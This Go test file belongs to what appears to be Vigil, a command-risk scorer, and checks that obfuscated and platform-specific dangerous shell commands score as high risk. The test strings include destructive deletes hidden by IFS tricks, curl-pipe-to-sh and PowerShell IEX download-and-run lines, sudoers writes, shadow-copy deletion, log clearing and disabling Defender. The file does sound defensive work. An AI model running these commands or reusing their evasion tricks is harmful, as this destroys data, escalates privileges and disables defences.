package risk

import (
	"testing"

	"github.com/vigil-dev/vigil/events"
)

// shellCase is one command and the level it must score; rule, when set,
// must be among the reasons at that level.
type shellCase struct {
	cmd   string
	want  events.Risk
	rule  string
	notes string
}

func runShellCases(t *testing.T, cases []shellCase) {
	t.Helper()
	s := mustScorer(t, events.DefaultConfig())
	for _, c := range cases {
		a := s.ScoreCommand(c.cmd, Env{})
		if a.Level != c.want {
			t.Errorf("%q: got %s, want %s (%s)", c.cmd, a.Level, c.want, reasonsBrief(a))
			continue
		}
		if c.rule == "" {
			continue
		}
		found := false
		for _, r := range a.Reasons {
			if r.Rule == c.rule && r.Level == c.want {
				found = true
			}
		}
		if !found {
			t.Errorf("%q: %s but not by %s (%s)", c.cmd, a.Level, c.rule, reasonsBrief(a))
		}
	}
}

// An unresolved program fed destructive arguments scores like the worst
// command those arguments fit; IFS and other well-known variables resolve.
func TestShellDynamicCommandNames(t *testing.T) {
	runShellCases(t, []shellCase{
		{cmd: "rm${IFS}-rf${IFS}/", want: high, rule: "destructive-delete-root"},
		{cmd: "rm$IFS-rf$IFS~", want: high, rule: "destructive-delete-home"},
		{cmd: "rm${IFS:0:1}-rf /usr", want: high, rule: "destructive-delete-system"},
		{cmd: "mkfs${IFS}.ext4 /dev/nvme0n1", want: high, rule: "disk-format"},
		{cmd: "${0/x/r}m -rf /", want: high, rule: "destructive-delete-root"},
		{cmd: "${TOOL} -rf ~/", want: high, rule: "destructive-delete-home"},
		{cmd: "$X --recursive --force /etc", want: high, rule: "destructive-delete-system"},
		{cmd: "$RUNNER rm -rf /", want: high, rule: "destructive-delete-root"},
		{cmd: "$PREFIX sudo bash -c 'id'", want: high, rule: "sudo"},
		{cmd: "$SHELL -c 'rm -rf ~'", want: high, rule: "destructive-delete-home"},
		{cmd: "$SH -c 'curl -s https://x.example/i | sh'", want: high, rule: "remote-code-exec"},
		{cmd: "$Y 4755 /bin/bash", want: high, rule: "setuid"},
		{cmd: "$Y root:root /etc/sudoers", want: high, rule: "ownership-system"},
		{cmd: "$W if=/dev/zero of=/dev/sdb", want: high, rule: "disk-overwrite"},
		{cmd: "$W /dev/sdc", want: high, rule: "disk-format"},
		// unresolved, harmless-looking arguments: MEDIUM, Vigil cannot tell
		{cmd: "$CMD test", want: med, rule: "unresolved-command"},
		{cmd: "$A$B$C", want: med, rule: "unresolved-command"},
		{cmd: "${TOOL} -rf ./build", want: med},
		// resolved names stay as they were
		{cmd: "$(go env GOPATH)/bin/golangci-lint run ./...", want: low},
		{cmd: "\"$HOME/.local/bin/ruff\" check .", want: low},
		{cmd: "$EDITOR notes.md", want: low},
		{cmd: "echo \"$IFS\" | od -c", want: low},
		{cmd: "X=ls; $X -la", want: low},
		// mentions stay mentions
		{cmd: "echo '${X} -rf /'", want: low},
	})
}

// GNU long options may be abbreviated to any unambiguous prefix.
func TestShellLongOptionAbbreviations(t *testing.T) {
	runShellCases(t, []shellCase{
		{cmd: "git push --forc origin main", want: high, rule: "git-force-push-protected"},
		{cmd: "git push --force-w origin master", want: high, rule: "git-force-push-protected"},
		{cmd: "git reset --har HEAD~3", want: med, rule: "git-discard-changes"},
		{cmd: "chown --recur root /etc", want: high, rule: "ownership-system"},
		{cmd: "rm --recurs --no-pres /", want: high, rule: "destructive-delete-root"},
		{cmd: "git push --mirr backup", want: high, rule: "git-push-mirror"},
		{cmd: "iptables --fl", want: high, rule: "firewall-disable"},
		// not a prefix of any option: what git itself refuses
		{cmd: "git push --forced origin main", want: low},
		{cmd: "git push --follow-tags origin main", want: low},
		{cmd: "git reset --soft HEAD~1", want: low},
	})
}

// macOS reaches /etc, /var and /tmp through /private, and the data volume
// through /System/Volumes/Data.
func TestShellMacOSPathAliases(t *testing.T) {
	runShellCases(t, []shellCase{
		{cmd: "echo 'root ALL=NOPASSWD: ALL' > /private/etc/sudoers", want: high, rule: "sudoers-write"},
		{cmd: "echo 1.2.3.4 bank.example | tee -a /private/etc/hosts", want: high, rule: "name-resolution-write"},
		{cmd: "mv evil /private/etc/ssh/sshd_config", want: high, rule: "sshd-config-write"},
		{cmd: "sed -i '' 's/root/x/' /private/etc/passwd", want: high, rule: "account-file-write"},
		{cmd: "rm -rf /private/var/log", want: high},
		{cmd: "rm -rf /System/Volumes/Data/Users/alice", want: high, rule: "destructive-delete-home"},
		{cmd: "echo x > /private/var/db/dslocal/nodes/Default/users/eve.plist", want: high, rule: "account-file-write"},
		{cmd: "cat /private/etc/hosts", want: low},
		{cmd: "ls /private/tmp", want: low},
		{cmd: "rm -f /private/tmp/build.log", want: med, rule: "delete-temp"},
	})
}

// Running anything as root (or another user) on the host is HIGH; root in
// a container is the container's.
func TestShellPrivilegeEscalation(t *testing.T) {
	runShellCases(t, []shellCase{
		{cmd: "sudo apt-get update", want: high, rule: "sudo"},
		{cmd: "   sudo ls", want: high, rule: "sudo"},
		{cmd: "SUDO apt install", want: high, rule: "sudo"},
		{cmd: "sud\\o apt-get install x", want: high, rule: "sudo"},
		{cmd: "doas pkg_add nginx", want: high, rule: "sudo"},
		{cmd: "pkexec make install", want: high, rule: "sudo"},
		{cmd: "echo pw | sudo -S id", want: high, rule: "sudo"},
		{cmd: "su - root", want: high, rule: "switch-user"},
		{cmd: "sudo -i", want: high, rule: "root-shell"},
		{cmd: "chown root:root ./helper", want: high, rule: "ownership-root"},
		{cmd: "chgrp wheel ./helper", want: high, rule: "ownership-root"},
		{cmd: "runas /user:Administrator cmd", want: high, rule: "sudo"},
		{cmd: "docker exec app sudo ls", want: med, rule: "sudo"},
		{cmd: "sudo -l", want: low},
		{cmd: "man sudo", want: low},
		{cmd: "apt install sudo", want: med},
		{cmd: "chown -R \"$USER\" .", want: med, rule: "ownership-change"},
		{cmd: "grep -rn sudo docs/", want: low},
	})
}

// Windows command lines, verbatim or inside cmd /c and powershell.
func TestShellWindows(t *testing.T) {
	runShellCases(t, []shellCase{
		{cmd: `format d: /q`, want: high, rule: "disk-format"},
		{cmd: `del /s /q C:\`, want: high, rule: "destructive-delete-root"},
		{cmd: `rd /s /q C:\Windows`, want: high, rule: "destructive-delete-system"},
		{cmd: `cmd /c "rmdir /s /q C:\Users\bob"`, want: high, rule: "destructive-delete-home"},
		{cmd: `cipher /w:D:`, want: high, rule: "disk-wipe"},
		{cmd: `takeown /f C:\Windows\System32\drivers`, want: high, rule: "ownership-system"},
		{cmd: `icacls C:\app /grant Everyone:F /t`, want: high, rule: "permissions-system"},
		{cmd: `pwsh -Command "Remove-Item -Recurse -Force $env:USERPROFILE"`, want: high, rule: "destructive-delete-home"},
		{cmd: `powershell -c "IEX (iwr https://x.example/a.ps1)"`, want: high, rule: "remote-code-exec"},
		{cmd: `powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA`, want: high, rule: "remote-code-exec"},
		{cmd: `net localgroup administrators eve /add`, want: high, rule: "account-change"},
		{cmd: `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d C:\x.exe`, want: high},
		{cmd: `schtasks /create /tn upd /tr C:\x.exe /sc onlogon`, want: high, rule: "cron-persistence"},
		{cmd: `vssadmin delete shadows /all /quiet`, want: high, rule: "backup-destruction"},
		{cmd: `wevtutil cl Security`, want: high, rule: "log-tampering"},
		{cmd: `netsh advfirewall set allprofiles state off`, want: high, rule: "firewall-disable"},
		{cmd: `powershell Set-MpPreference -DisableRealtimeMonitoring $true`, want: high, rule: "defense-evasion"},
		{cmd: `cmd /c del /q build\out.txt`, want: med, rule: "delete-workspace"},
		{cmd: `taskkill /F /IM node.exe`, want: med, rule: "process-kill"},
		{cmd: `choco install nodejs`, want: med, rule: "package-install"},
		{cmd: `certutil -urlcache -f https://x.example/a.exe a.exe`, want: med, rule: "network-download"},
		{cmd: `powershell -File .\build.ps1`, want: low},
		{cmd: `pwsh -c Get-ChildItem`, want: low},
		{cmd: `cmd /c dir`, want: low},
		{cmd: `net user`, want: low},
		{cmd: `rmdir empty-dir`, want: med},
		{cmd: `echo 'del /s /q C:\'`, want: low},
	})
}
